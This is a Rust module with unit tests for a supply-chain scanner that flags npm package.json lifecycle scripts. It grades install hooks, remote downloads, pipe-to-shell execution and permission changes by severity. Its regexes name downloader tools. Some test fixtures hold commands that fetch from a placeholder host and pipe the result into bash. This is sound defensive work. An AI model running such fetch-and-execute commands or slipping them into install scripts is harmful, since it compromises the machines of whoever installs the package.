//! Supply-chain checks over `package.json` lifecycle scripts.
//!
//! Install-class scripts run automatically on `npm install`, which makes
//! them the classic vehicle for compromised packages. Severity escalates
//! from "has an install script" through "fetches remote content" to
//! "executes remote content".

use std::collections::BTreeMap;
use std::sync::LazyLock;

use regex::Regex;
use serde::Deserialize;

use crate::rules::types::{Finding, Severity};

/// Script names npm runs implicitly around install/publish.
const INSTALL_CLASS: &[&str] = &[
    "preinstall",
    "install",
    "postinstall",
    "prepare",
    "prepublish",
    "prepublishOnly",
    "prepack",
    "postpack",
];

static DOWNLOADER: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\b(curl|wget|fetch|Invoke-WebRequest|iwr)\b").expect("downloader pattern")
});

static PIPE_TO_SHELL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\b(curl|wget)\b[^|]*\|\s*(sudo\s+)?(ba|z)?sh\b").expect("pipe pattern")
});

static PERMISSION_CHANGE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i)\b(chmod|chown)\b").expect("permission pattern"));

#[derive(Debug, Deserialize)]
struct PackageManifest {
    #[serde(default)]
    scripts: BTreeMap<String, String>,
}

pub fn scan(content: &str, file: &str, findings: &mut Vec<Finding>) {
    let Ok(manifest) = serde_json::from_str::<PackageManifest>(content) else {
        return;
    };

    for (name, command) in &manifest.scripts {
        let line = line_of_script(content, name);

        if INSTALL_CLASS.contains(&name.as_str()) {
            if PIPE_TO_SHELL.is_match(command) {
                findings.push(Finding::heuristic(
                    "SUPPLY_CHAIN_REMOTE_EXEC",
                    Severity::Critical,
                    "supply_chain",
                    format!("install script '{name}' pipes remote content into a shell: {command}"),
                    file,
                    line,
                ));
            } else if DOWNLOADER.is_match(command) {
                findings.push(Finding::heuristic(
                    "SUPPLY_CHAIN_REMOTE_FETCH",
                    Severity::High,
                    "supply_chain",
                    format!("install script '{name}' fetches remote content: {command}"),
                    file,
                    line,
                ));
            } else {
                findings.push(Finding::heuristic(
                    "SUPPLY_CHAIN_INSTALL_SCRIPT",
                    Severity::Medium,
                    "supply_chain",
                    format!("lifecycle script '{name}' runs automatically on install: {command}"),
                    file,
                    line,
                ));
            }
        }

        if PERMISSION_CHANGE.is_match(command) {
            findings.push(Finding::heuristic(
                "SUPPLY_CHAIN_PERMISSION_CHANGE",
                Severity::High,
                "supply_chain",
                format!("script '{name}' changes file permissions or ownership: {command}"),
                file,
                line,
            ));
        }
    }
}

/// Best-effort line of `"<name>":` in the raw JSON text.
fn line_of_script(content: &str, name: &str) -> Option<usize> {
    let needle = format!("\"{name}\"");
    let offset = content.find(&needle)?;
    Some(content[..offset].bytes().filter(|&b| b == b'\n').count() + 1)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn scan_str(content: &str) -> Vec<Finding> {
        let mut findings = Vec::new();
        scan(content, "/pkg/package.json", &mut findings);
        findings
    }

    #[test]
    fn test_plain_install_script_is_medium() {
        let findings = scan_str(r#"{"scripts": {"postinstall": "node setup.js"}}"#);
        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].rule_id, "SUPPLY_CHAIN_INSTALL_SCRIPT");
        assert_eq!(findings[0].severity, Severity::Medium);
    }

    #[test]
    fn test_remote_fetch_is_high() {
        let findings = scan_str(r#"{"scripts": {"preinstall": "curl -o bin https://x.example/bin"}}"#);
        assert_eq!(findings[0].rule_id, "SUPPLY_CHAIN_REMOTE_FETCH");
        assert_eq!(findings[0].severity, Severity::High);
    }

    #[test]
    fn test_remote_exec_is_critical() {
        let findings =
            scan_str(r#"{"scripts": {"install": "curl https://x.example/i.sh | bash"}}"#);
        assert_eq!(findings[0].rule_id, "SUPPLY_CHAIN_REMOTE_EXEC");
        assert_eq!(findings[0].severity, Severity::Critical);
    }

    #[test]
    fn test_chmod_flagged_in_any_script() {
        let findings = scan_str(r#"{"scripts": {"build": "chmod +x out/cli"}}"#);
        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].rule_id, "SUPPLY_CHAIN_PERMISSION_CHANGE");
    }

    #[test]
    fn test_install_script_with_chmod_emits_both() {
        let findings =
            scan_str(r#"{"scripts": {"postinstall": "chmod 777 bin && node x.js"}}"#);
        let ids: Vec<_> = findings.iter().map(|f| f.rule_id.as_str()).collect();
        assert!(ids.contains(&"SUPPLY_CHAIN_INSTALL_SCRIPT"));
        assert!(ids.contains(&"SUPPLY_CHAIN_PERMISSION_CHANGE"));
    }

    #[test]
    fn test_non_install_scripts_ignored() {
        let findings = scan_str(r#"{"scripts": {"test": "jest", "build": "tsc"}}"#);
        assert!(findings.is_empty());
    }

    #[test]
    fn test_invalid_json_yields_nothing() {
        assert!(scan_str("{ not json").is_empty());
    }

    #[test]
    fn test_no_scripts_section() {
        assert!(scan_str(r#"{"name": "pkg", "version": "1.0.0"}"#).is_empty());
    }

    #[test]
    fn test_line_number_points_at_script() {
        let content = "{\n  \"scripts\": {\n    \"postinstall\": \"node x.js\"\n  }\n}";
        let findings = scan_str(content);
        assert_eq!(findings[0].line, Some(3));
    }

    #[test]
    fn test_prepare_counts_as_install_class() {
        let findings = scan_str(r#"{"scripts": {"prepare": "husky install"}}"#);
        assert_eq!(findings[0].rule_id, "SUPPLY_CHAIN_INSTALL_SCRIPT");
    }
}
